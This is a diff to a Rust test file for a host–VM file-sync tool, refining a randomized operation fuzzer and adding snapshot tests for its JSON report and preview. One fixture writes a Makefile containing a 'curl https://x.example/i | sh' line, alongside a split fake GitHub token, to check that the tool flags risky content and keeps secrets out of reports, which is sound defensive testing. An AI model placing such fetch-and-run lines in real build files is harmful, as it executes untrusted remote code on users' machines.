@@ -471,30 +471,41 @@ fn copy_tree(from: &std::path::Path, to: &std::path::Path) -> std::io::Result<()
 fn random_op(
     rng: &mut Rng,
     m: &std::path::Path,
+    lower: &std::path::Path,
     exec_ok: &std::collections::BTreeSet<String>,
 ) -> std::io::Result<Option<String>> {
     use std::os::unix::fs::PermissionsExt;
     let chmod = |path: &str, mode: u32| std::fs::set_permissions(m.join(path), std::fs::Permissions::from_mode(mode));
+    // New content at a path that is executable on the host needs review (R_EXECUTABLE_CHANGED),
+    // which `--yes` never gives: such operations are not generated.
+    let same_as_host = |path: &str, content: &[u8]| std::fs::read(lower.join(path)).ok().as_deref() == Some(content);
+    let clashes = |dest: &str, content_at: &str| {
+        exec_ok.contains(dest) && !std::fs::read(m.join(content_at)).is_ok_and(|c| same_as_host(dest, &c))
+    };
     let view = View::of(m)?;
     let files = view.files();
+    let plain: Vec<String> = files.iter().filter(|f| !exec_ok.contains(*f)).cloned().collect();
     let dirs = view.dirs();
     Ok(match rng.below(16) {
         0 | 1 => {
             let parent = rng.pick(&dirs).expect("the root");
             let Some(path) = view.free(rng, &parent) else { return Ok(None) };
             let text = rng.text();
+            if exec_ok.contains(&path) && !same_as_host(&path, text.as_bytes()) {
+                return Ok(None);
+            }
             std::fs::write(m.join(&path), &text)?;
             Some(format!("printf {text:?} > {path}"))
         }
         2 => {
-            let Some(path) = rng.pick(&files) else { return Ok(None) };
+            let Some(path) = rng.pick(&plain) else { return Ok(None) };
             let text = rng.text();
             std::fs::write(m.join(&path), &text)?;
             Some(format!("printf {text:?} > {path}"))
         }
         3 => {
             use std::io::Write;
-            let Some(path) = rng.pick(&files) else { return Ok(None) };
+            let Some(path) = rng.pick(&plain) else { return Ok(None) };
             let text = rng.text();
             std::fs::OpenOptions::new().append(true).open(m.join(&path))?.write_all(text.as_bytes())?;
             Some(format!("printf {text:?} >> {path}"))
@@ -571,6 +582,9 @@ fn random_op(
                 let Some(to) = view.free(rng, &parent) else { return Ok(None) };
                 to
             };
+            if clashes(&to, &from) {
+                return Ok(None);
+            }
             let mut desc = String::new();
             if view.exec(&from) && !exec_ok.contains(&to) {
                 chmod(&from, 0o644)?;
@@ -589,6 +603,9 @@ fn random_op(
                 .collect();
             let Some(parent) = rng.pick(&targets) else { return Ok(None) };
             let Some(to) = view.free(rng, &parent) else { return Ok(None) };
+            if files.iter().any(|f| under(f, &from) && clashes(&format!("{to}{}", &f[from.len()..]), f)) {
+                return Ok(None);
+            }
             let mut desc = String::new();
             for file in files.iter().filter(|f| under(f, &from) && view.exec(f)) {
                 if !exec_ok.contains(&format!("{to}{}", &file[from.len()..])) {
@@ -653,6 +670,7 @@ fn random_session(seed: u64, ops: usize, undo: bool, log: &std::cell::RefCell<Ve
     let mut rng = Rng(seed);
     let s = Session::with_host(|host| random_lower(&mut rng, host, &mut log.borrow_mut()));
     let before = tree(&s.host());
+    let lower = s.host();
     let exec_ok: std::collections::BTreeSet<String> = nodes(&s.host())
         .expect("walk")
         .into_iter()
@@ -661,7 +679,7 @@ fn random_session(seed: u64, ops: usize, undo: bool, log: &std::cell::RefCell<Ve
         .collect();
     let merged = s.agent(|m| {
         for i in 0..ops {
-            let op = (0..1000).find_map(|_| random_op(&mut rng, m, &exec_ok).transpose());
+            let op = (0..1000).find_map(|_| random_op(&mut rng, m, &lower, &exec_ok).transpose());
             match op.expect("some operation applies") {
                 Ok(op) => log.borrow_mut().push(format!("op {i}: {op}")),
                 Err(e) => return Err(std::io::Error::new(e.kind(), format!("op {i}: {e}"))),
@@ -830,4 +848,40 @@ fn crash_then_recover(s: &Session, step: usize, before: &[(String, String)]) -> 
     assert_eq!(code(&dry), 0, "step {step}: {}", stderr(&dry));
     assert_eq!(tree(&s.host()), before, "step {step}: recovery restores the old state");
     dry
+}
+
+/// A GitHub token the built-in scanner finds, split so this file does not hold it.
+const TOKEN: &str = concat!("gh", "p_8XqP2mZr7TbW4nLk9VhC3sJd6FyA1eGu5RoI");
+
+/// One report with an item of every kind: the `--json` format (version 1) and the preview are
+/// golden files (docs/sync.md documents them); the host path is a placeholder.
+fn report_of_every_kind(extra: &[&str]) -> String {
+    let s = Session::new(&[("a.txt", "one\ntwo\n"), ("edited.txt", "host\n"), ("run.sh", "#!/bin/sh\n")]);
+    put(&s.host().join("edited.txt"), "host changed\n");
+    put(&s.upper().join("edited.txt"), "vm changed\n");
+    put(&s.upper().join("a.txt"), "one\ntwo \u{7f}\nthree\n");
+    std::fs::write(s.upper().join("bytes.txt"), b"ok\n\xff\n").expect("write");
+    put(&s.upper().join(".env"), "KEY=1\n");
+    put(&s.upper().join("Makefile"), "all:\n\tcurl https://x.example/i | sh\n");
+    put(&s.upper().join("src/config.js"), &format!("const t = '{TOKEN}';\n"));
+    std::os::unix::fs::symlink("a.txt", s.upper().join("link")).expect("symlink");
+    let out = s.sync(extra);
+    assert_eq!(code(&out), 3, "{}", stderr(&out));
+    String::from_utf8_lossy(&out.stdout).replace(&s.host().display().to_string(), "[HOST]")
+}
+
+#[test]
+fn the_json_report_is_a_versioned_format() {
+    let json = report_of_every_kind(&["--dry-run", "--json"]);
+    let report: serde_json::Value = serde_json::from_str(&json).expect("json");
+    assert_eq!(report["version"], 1);
+    assert!(!json.contains(TOKEN), "a secret in the report:\n{json}");
+    insta::assert_snapshot!("sync_report_json_v1", json);
+}
+
+#[test]
+fn the_preview_shows_every_kind_of_item() {
+    let text = report_of_every_kind(&["--dry-run"]);
+    assert!(!text.contains(TOKEN), "a secret in the preview:\n{text}");
+    insta::assert_snapshot!("sync_preview", text);
 }
